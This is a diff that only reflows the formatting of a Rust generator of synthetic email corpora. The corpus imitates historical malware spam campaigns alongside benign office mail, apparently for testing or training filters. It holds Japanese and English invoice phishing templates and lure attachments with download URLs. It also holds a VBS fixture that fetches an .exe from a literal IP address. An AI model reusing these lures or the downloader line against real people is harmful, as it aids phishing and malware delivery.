@@ -24,14 +24,54 @@ pub struct Shape {
 
 /// The seeds' groups.
 pub const CAMPAIGNS: &[Shape] = &[
-    Shape { name: "Aa-cutwail-dreambot", weight: 12, window: (T_2017_10_15, T_2017_10_15 + 283 * DAY), fill: group_aa },
-    Shape { name: "Ab-cutwail-ursnif", weight: 10, window: (T_2017_10_15, T_IQY_SWITCH + 6 * DAY), fill: group_ab },
-    Shape { name: "B-necurs-globeimposter", weight: 9, window: (T_2017_10_15, T_2017_10_15 + 100 * DAY), fill: group_b },
-    Shape { name: "C-necurs-hancitor", weight: 8, window: (T_2017_10_15, T_2017_10_15 + 365 * DAY), fill: group_c },
-    Shape { name: "D-unknown-lokibot", weight: 1, window: (T_2017_10_15 + 120 * DAY, T_2017_10_15 + 130 * DAY), fill: group_d },
-    Shape { name: "E-necurs-emotet", weight: 14, window: (T_2017_10_15, T_2017_10_15 + 365 * DAY), fill: group_e },
-    Shape { name: "F-necurs-flawedammyy", weight: 5, window: (T_2017_10_15 + 360 * DAY, T_2017_10_15 + 381 * DAY), fill: group_f },
-    Shape { name: "K-phorpiex-nemty", weight: 16, window: (T_IMG_SWITCH - 3 * DAY, T_IMG_SWITCH + 18 * DAY), fill: group_kaomoji },
+    Shape {
+        name: "Aa-cutwail-dreambot",
+        weight: 12,
+        window: (T_2017_10_15, T_2017_10_15 + 283 * DAY),
+        fill: group_aa,
+    },
+    Shape {
+        name: "Ab-cutwail-ursnif",
+        weight: 10,
+        window: (T_2017_10_15, T_IQY_SWITCH + 6 * DAY),
+        fill: group_ab,
+    },
+    Shape {
+        name: "B-necurs-globeimposter",
+        weight: 9,
+        window: (T_2017_10_15, T_2017_10_15 + 100 * DAY),
+        fill: group_b,
+    },
+    Shape {
+        name: "C-necurs-hancitor",
+        weight: 8,
+        window: (T_2017_10_15, T_2017_10_15 + 365 * DAY),
+        fill: group_c,
+    },
+    Shape {
+        name: "D-unknown-lokibot",
+        weight: 1,
+        window: (T_2017_10_15 + 120 * DAY, T_2017_10_15 + 130 * DAY),
+        fill: group_d,
+    },
+    Shape {
+        name: "E-necurs-emotet",
+        weight: 14,
+        window: (T_2017_10_15, T_2017_10_15 + 365 * DAY),
+        fill: group_e,
+    },
+    Shape {
+        name: "F-necurs-flawedammyy",
+        weight: 5,
+        window: (T_2017_10_15 + 360 * DAY, T_2017_10_15 + 381 * DAY),
+        fill: group_f,
+    },
+    Shape {
+        name: "K-phorpiex-nemty",
+        weight: 16,
+        window: (T_IMG_SWITCH - 3 * DAY, T_IMG_SWITCH + 18 * DAY),
+        fill: group_kaomoji,
+    },
 ];
 
 /// Share of benign mail in percent (the rest of 100).
@@ -39,10 +79,29 @@ const BENIGN_WEIGHT: usize = 25;
 
 const JP_COMPANIES: &[&str] = &["楽天市場", "ヤマト運輸", "三井住友カード", "佐川急便", "日本郵便"];
 const EN_COMPANIES: &[&str] = &["DocuSign", "FedEx", "ADP", "Comcast", "Intuit", "Chase"];
-const JP_SURNAMES: &[&str] = &["田中", "佐藤", "鈴木", "高橋", "伊藤", "渡辺", "山本", "中村", "小林", "加藤"];
-const EN_NAMES: &[&str] = &["John Smith", "Mary Jones", "Robert Brown", "Linda Davis", "James Miller", "Susan Wilson"];
+const JP_SURNAMES: &[&str] = &[
+    "田中", "佐藤", "鈴木", "高橋", "伊藤", "渡辺", "山本", "中村", "小林", "加藤",
+];
+const EN_NAMES: &[&str] = &[
+    "John Smith",
+    "Mary Jones",
+    "Robert Brown",
+    "Linda Davis",
+    "James Miller",
+    "Susan Wilson",
+];
 const KAOMOJI: &[&str] = &[
-    "(^_−)☆", "(*^_^*)", "(´∀｀)", "(^_^;)", "(*_*)", "(^o^)", "(≧▽≦)", "(´・ω・｀)", ":-)", ";-)", "(^^)",
+    "(^_−)☆",
+    "(*^_^*)",
+    "(´∀｀)",
+    "(^_^;)",
+    "(*_*)",
+    "(^o^)",
+    "(≧▽≦)",
+    "(´・ω・｀)",
+    ":-)",
+    ";-)",
+    "(^^)",
 ];
 const TLDS: &[&str] = &["com", "net", "jp", "co.jp", "ru", "br", "in", "it"];
 
@@ -90,7 +149,13 @@ fn base(rng: &mut Rng, index: usize) -> SynthMail {
 }
 
 fn random_ip(rng: &mut Rng) -> String {
-    format!("{}.{}.{}.{}", 11 + rng.below(180), rng.below(256), rng.below(256), 1 + rng.below(254))
+    format!(
+        "{}.{}.{}.{}",
+        11 + rng.below(180),
+        rng.below(256),
+        rng.below(256),
+        1 + rng.below(254)
+    )
 }
 
 fn random_domain(rng: &mut Rng) -> String {
@@ -103,7 +168,11 @@ fn bot_sender(rng: &mut Rng, m: &mut SynthMail, helo_ip_literal: bool) {
     let domain = random_domain(rng);
     m.from_addr = format!("{}@{domain}", rng.letters(6));
     let ip = random_ip(rng);
-    let helo = if helo_ip_literal { format!("[{ip}]") } else { format!("{}-PC", rng.letters(4).to_uppercase()) };
+    let helo = if helo_ip_literal {
+        format!("[{ip}]")
+    } else {
+        format!("{}-PC", rng.letters(4).to_uppercase())
+    };
     m.sender_host = (helo, ip);
 }
 
@@ -127,7 +196,11 @@ fn tag(rng: &mut Rng, m: &mut SynthMail, family: &str) {
 }
 
 fn compromised_host(rng: &mut Rng) -> String {
-    format!("www.{}shop.{}", rng.pick(&["sakura", "green", "blue", "tokyo", "star", "happy", "north", "gold"]), rng.pick(TLDS))
+    format!(
+        "www.{}shop.{}",
+        rng.pick(&["sakura", "green", "blue", "tokyo", "star", "happy", "north", "gold"]),
+        rng.pick(TLDS)
+    )
 }
 
 fn group_aa(rng: &mut Rng, m: &mut SynthMail) {
@@ -141,7 +214,12 @@ fn group_aa(rng: &mut Rng, m: &mut SynthMail) {
         1 => format!("{co}よりお支払いについてのお知らせ"),
         _ => format!("【重要】{co} ご請求金額確定のお知らせ"),
     };
-    let url = format!("http://{}/{}/{}.zip", compromised_host(rng), rng.pick(&["doc", "files", "invoice"]), rng.digits(5));
+    let url = format!(
+        "http://{}/{}/{}.zip",
+        compromised_host(rng),
+        rng.pick(&["doc", "files", "invoice"]),
+        rng.digits(5)
+    );
     let opening = if rng.below(2) == 0 { "いつも" } else { "平素より" };
     m.body = format!(
         "{}様\n{opening}{co}をご利用いただきありがとうございます。\nご注文番号{num}のご請求書を下記よりダウンロードしてご確認ください。\n{url}\nご不明な点はお問い合わせ窓口までご連絡ください。\n{co} カスタマーセンター",
@@ -170,12 +248,19 @@ fn group_ab(rng: &mut Rng, m: &mut SynthMail) {
         SynthAttachment {
             name: format!("{}.iqy", rng.digits(5)),
             content_type: "text/plain".into(),
-            kind: AttachmentKind::Lure { format: "iqy".into(), content: format!("WEB\n1\n{url}\n") },
+            kind: AttachmentKind::Lure {
+                format: "iqy".into(),
+                content: format!("WEB\n1\n{url}\n"),
+            },
         }
     } else {
         let xls = rng.below(2) == 0;
         SynthAttachment {
-            name: if xls { format!("請求書_{num}.xls") } else { format!("注文書{}.doc", rng.digits(4)) },
+            name: if xls {
+                format!("請求書_{num}.xls")
+            } else {
+                format!("注文書{}.doc", rng.digits(4))
+            },
             content_type: "application/octet-stream".into(),
             kind: AttachmentKind::Office {
                 format: if xls { "xls" } else { "doc" }.into(),
@@ -197,14 +282,25 @@ fn group_b(rng: &mut Rng, m: &mut SynthMail) {
     necurs(rng, m);
     let len = 1 + rng.below(6);
     let num = rng.digits(len);
-    m.subject = format!("{} {num}", rng.pick(&["Scanned Document", "Copy", "Invoice", "Payment", "Document"]));
+    m.subject = format!(
+        "{} {num}",
+        rng.pick(&["Scanned Document", "Copy", "Invoice", "Payment", "Document"])
+    );
     m.from_name = rng.pick(&["Scanner", "Copier", "Accounts", ""]).to_string();
-    let url = format!("http://{}/JHgd476?", rng.pick(&["goldenwings.example", "cargotrans.example"]));
+    let url = format!(
+        "http://{}/JHgd476?",
+        rng.pick(&["goldenwings.example", "cargotrans.example"])
+    );
     let content = daily_payload(rng, m, "B", &url);
     m.attachment = Some(SynthAttachment {
         name: format!("{}.7z", rng.digits(8)),
         content_type: "application/x-7z-compressed".into(),
-        kind: AttachmentKind::Archive { format: "7z".into(), inner_name: format!("{}.js", rng.digits(8)), language: "js".into(), content },
+        kind: AttachmentKind::Archive {
+            format: "7z".into(),
+            inner_name: format!("{}.js", rng.digits(8)),
+            language: "js".into(),
+            content,
+        },
     });
     tag(rng, m, "globeimposter");
 }
@@ -238,12 +334,17 @@ fn group_d(rng: &mut Rng, m: &mut SynthMail) {
     m.x_mailer = Some("Foxmail 7.2.9.156[cn]".into());
     let num = rng.digits(5);
     m.subject = format!("Re: Invoice No.{num} payment");
-    m.body = format!("Dear Sir/Madam,\n\nPlease find attached invoice No.{num} for your kind payment.\nOpen the document to view the payment details.\n\nBest regards,\nAccounts Payable");
+    m.body = format!(
+        "Dear Sir/Madam,\n\nPlease find attached invoice No.{num} for your kind payment.\nOpen the document to view the payment details.\n\nBest regards,\nAccounts Payable"
+    );
     let url = format!("http://{}/pdf/{}.exe", "lokiload.example", rng.letters(4));
     m.attachment = Some(SynthAttachment {
         name: format!("Invoice_{num}.pdf"),
         content_type: "application/pdf".into(),
-        kind: AttachmentKind::Lure { format: "pdf".into(), content: format!("%PDF-1.4 synthetic /URI ({url})") },
+        kind: AttachmentKind::Lure {
+            format: "pdf".into(),
+            content: format!("%PDF-1.4 synthetic /URI ({url})"),
+        },
     });
     tag(rng, m, "lokibot");
 }
@@ -277,12 +378,19 @@ fn group_e(rng: &mut Rng, m: &mut SynthMail) {
         0 => Some(SynthAttachment {
             name: format!("INV_{num}.doc"),
             content_type: "application/msword".into(),
-            kind: AttachmentKind::Office { format: "doc".into(), macros: true, content: format!("emotet doc {}", rng.below(3)) },
+            kind: AttachmentKind::Office {
+                format: "doc".into(),
+                macros: true,
+                content: format!("emotet doc {}", rng.below(3)),
+            },
         }),
         2 => Some(SynthAttachment {
             name: format!("Invoice_{num}.pdf"),
             content_type: "application/pdf".into(),
-            kind: AttachmentKind::Lure { format: "pdf".into(), content: format!("%PDF-1.4 emotet /URI (http://{}/inv)", compromised_host(rng)) },
+            kind: AttachmentKind::Lure {
+                format: "pdf".into(),
+                content: format!("%PDF-1.4 emotet /URI (http://{}/inv)", compromised_host(rng)),
+            },
         }),
         _ => None,
     };
@@ -294,12 +402,18 @@ fn group_f(rng: &mut Rng, m: &mut SynthMail) {
     m.from_name = rng.pick(EN_NAMES).to_string();
     let id = format!("INV-{}", rng.hex(6).to_uppercase());
     m.subject = format!("Invoice {id}");
-    m.body = format!("Dear customer,\n\nYour invoice {id} is attached. Please review it and confirm receipt.\n\nKind regards");
+    m.body = format!(
+        "Dear customer,\n\nYour invoice {id} is attached. Please review it and confirm receipt.\n\nKind regards"
+    );
     let publisher = rng.below(3) == 0;
     m.attachment = Some(SynthAttachment {
         name: format!("invoice_{}.{}", rng.digits(6), if publisher { "pub" } else { "doc" }),
         content_type: "application/octet-stream".into(),
-        kind: AttachmentKind::Office { format: if publisher { "pub" } else { "doc" }.into(), macros: true, content: format!("ammyy {}", rng.below(3)) },
+        kind: AttachmentKind::Office {
+            format: if publisher { "pub" } else { "doc" }.into(),
+            macros: true,
+            content: format!("ammyy {}", rng.below(3)),
+        },
     });
     tag(rng, m, "flawedammyy");
 }
@@ -307,7 +421,11 @@ fn group_f(rng: &mut Rng, m: &mut SynthMail) {
 fn group_kaomoji(rng: &mut Rng, m: &mut SynthMail) {
     let ip = format!("{}.{}", rng.pick(&["185.158.249", "92.63.197"]), 2 + rng.below(250));
     let domain = random_domain(rng);
-    m.from_addr = format!("{}{}@{domain}", rng.pick(&["Nina", "Alex", "Dima", "Kate", "Olga"]), rng.digits(2));
+    m.from_addr = format!(
+        "{}{}@{domain}",
+        rng.pick(&["Nina", "Alex", "Dima", "Kate", "Olga"]),
+        rng.digits(2)
+    );
     m.sender_host = (format!("{}.{domain}", rng.letters(3)), ip);
     m.message_id = format!("{}.{}@{domain}", rng.digits(10), rng.digits(6));
     let face = rng.pick(KAOMOJI);
@@ -319,35 +437,116 @@ fn group_kaomoji(rng: &mut Rng, m: &mut SynthMail) {
     } else {
         (format!("PIC_{digits}_2020.zip"), format!("PIC{digits}2020.jpg.vbs"))
     };
-    let style = if m.time >= T_IMG_SWITCH { "CreateObject(\"WinHttp.WinHttpRequest.5.1\")" } else { "CreateObject(\"MSXML2.XMLHTTP\")" };
-    let content = format!("' synthetic fixture, inert\nSet h = {style}\nh.Open \"GET\", \"http://92.63.197.48/m.exe\", False\n' {}\n", rng.below(3));
+    let style = if m.time >= T_IMG_SWITCH {
+        "CreateObject(\"WinHttp.WinHttpRequest.5.1\")"
+    } else {
+        "CreateObject(\"MSXML2.XMLHTTP\")"
+    };
+    let content = format!(
+        "' synthetic fixture, inert\nSet h = {style}\nh.Open \"GET\", \"http://92.63.197.48/m.exe\", False\n' {}\n",
+        rng.below(3)
+    );
     m.attachment = Some(SynthAttachment {
         name,
         content_type: "application/zip".into(),
-        kind: AttachmentKind::Archive { format: "zip".into(), inner_name: inner, language: "vbs".into(), content },
+        kind: AttachmentKind::Archive {
+            format: "zip".into(),
+            inner_name: inner,
+            language: "vbs".into(),
+            content,
+        },
     });
     tag(rng, m, "nemty");
 }
 
 const BENIGN_TOPICS: &[&str] = &[
-    "定例会議", "予算申請", "出張報告", "システム更新", "健康診断", "年末調整", "新製品発表", "契約更新", "研修日程",
-    "オフィス移転", "サーバ保守", "採用面接", "広報資料", "顧客訪問", "品質監査", "在庫確認", "quarterly review",
-    "project kickoff", "team offsite", "security training", "release planning", "design review", "board meeting",
+    "定例会議",
+    "予算申請",
+    "出張報告",
+    "システム更新",
+    "健康診断",
+    "年末調整",
+    "新製品発表",
+    "契約更新",
+    "研修日程",
+    "オフィス移転",
+    "サーバ保守",
+    "採用面接",
+    "広報資料",
+    "顧客訪問",
+    "品質監査",
+    "在庫確認",
+    "quarterly review",
+    "project kickoff",
+    "team offsite",
+    "security training",
+    "release planning",
+    "design review",
+    "board meeting",
 ];
-const BENIGN_SUFFIXES: &[&str] = &["について", "のご案内", "の件", "の資料送付", "のお願い", "（確認依頼）", " notes", " agenda"];
+const BENIGN_SUFFIXES: &[&str] = &[
+    "について",
+    "のご案内",
+    "の件",
+    "の資料送付",
+    "のお願い",
+    "（確認依頼）",
+    " notes",
+    " agenda",
+];
 const BENIGN_WORDS: &[&str] = &[
-    "東京", "大阪", "名古屋", "福岡", "札幌", "第一", "第二", "営業部", "開発部", "総務部", "経理部", "人事部", "alpha",
-    "beta", "gamma", "delta", "北海", "青葉", "桜", "若葉", "港", "本社", "支社", "関東", "関西", "九州",
+    "東京",
+    "大阪",
+    "名古屋",
+    "福岡",
+    "札幌",
+    "第一",
+    "第二",
+    "営業部",
+    "開発部",
+    "総務部",
+    "経理部",
+    "人事部",
+    "alpha",
+    "beta",
+    "gamma",
+    "delta",
+    "北海",
+    "青葉",
+    "桜",
+    "若葉",
+    "港",
+    "本社",
+    "支社",
+    "関東",
+    "関西",
+    "九州",
 ];
 const BENIGN_SENTENCES: &[&str] = &[
-    "お疲れ様です。", "先日の打ち合わせではありがとうございました。", "資料を共有フォルダに置きました。",
-    "ご確認のほどよろしくお願いいたします。", "来週の予定について調整させてください。", "議事録を添付します。",
-    "不明点があればご連絡ください。", "会議室は三階の大会議室です。", "締め切りは月末です。",
-    "先方からの回答を待っています。", "見積もりの件、承知しました。", "引き続きよろしくお願いします。",
-    "Thanks for the update.", "Let me know if the schedule works for you.", "The slides are in the shared drive.",
-    "We will discuss the budget next week.", "Please review the draft before Friday.", "Lunch will be provided.",
-    "新しい手順書を作成しました。", "研修の参加者を募集しています。", "アンケートへのご協力をお願いします。",
-    "サーバの停止時間は二時間の予定です。", "交通費の精算をお願いします。", "来期の計画を検討中です。",
+    "お疲れ様です。",
+    "先日の打ち合わせではありがとうございました。",
+    "資料を共有フォルダに置きました。",
+    "ご確認のほどよろしくお願いいたします。",
+    "来週の予定について調整させてください。",
+    "議事録を添付します。",
+    "不明点があればご連絡ください。",
+    "会議室は三階の大会議室です。",
+    "締め切りは月末です。",
+    "先方からの回答を待っています。",
+    "見積もりの件、承知しました。",
+    "引き続きよろしくお願いします。",
+    "Thanks for the update.",
+    "Let me know if the schedule works for you.",
+    "The slides are in the shared drive.",
+    "We will discuss the budget next week.",
+    "Please review the draft before Friday.",
+    "Lunch will be provided.",
+    "新しい手順書を作成しました。",
+    "研修の参加者を募集しています。",
+    "アンケートへのご協力をお願いします。",
+    "サーバの停止時間は二時間の予定です。",
+    "交通費の精算をお願いします。",
+    "来期の計画を検討中です。",
 ];
 
 fn benign(rng: &mut Rng, m: &mut SynthMail) {
@@ -358,7 +557,10 @@ fn benign(rng: &mut Rng, m: &mut SynthMail) {
     let sender = rng.pick(JP_SURNAMES);
     m.from_name = sender.to_string();
     m.from_addr = format!("{}@{domain}", rng.letters(6));
-    m.sender_host = (format!("mail.{domain}"), format!("198.51.{}.{}", org, 10 + rng.below(5)));
+    m.sender_host = (
+        format!("mail.{domain}"),
+        format!("198.51.{}.{}", org, 10 + rng.below(5)),
+    );
     m.message_id = format!("{}.{}@{domain}", rng.hex(16), rng.digits(5));
     m.x_mailer = Some(["Microsoft Outlook 16.0", "Thunderbird 60.2", "Becky! ver. 2.75"][org % 3].to_string());
     m.subject = format!(
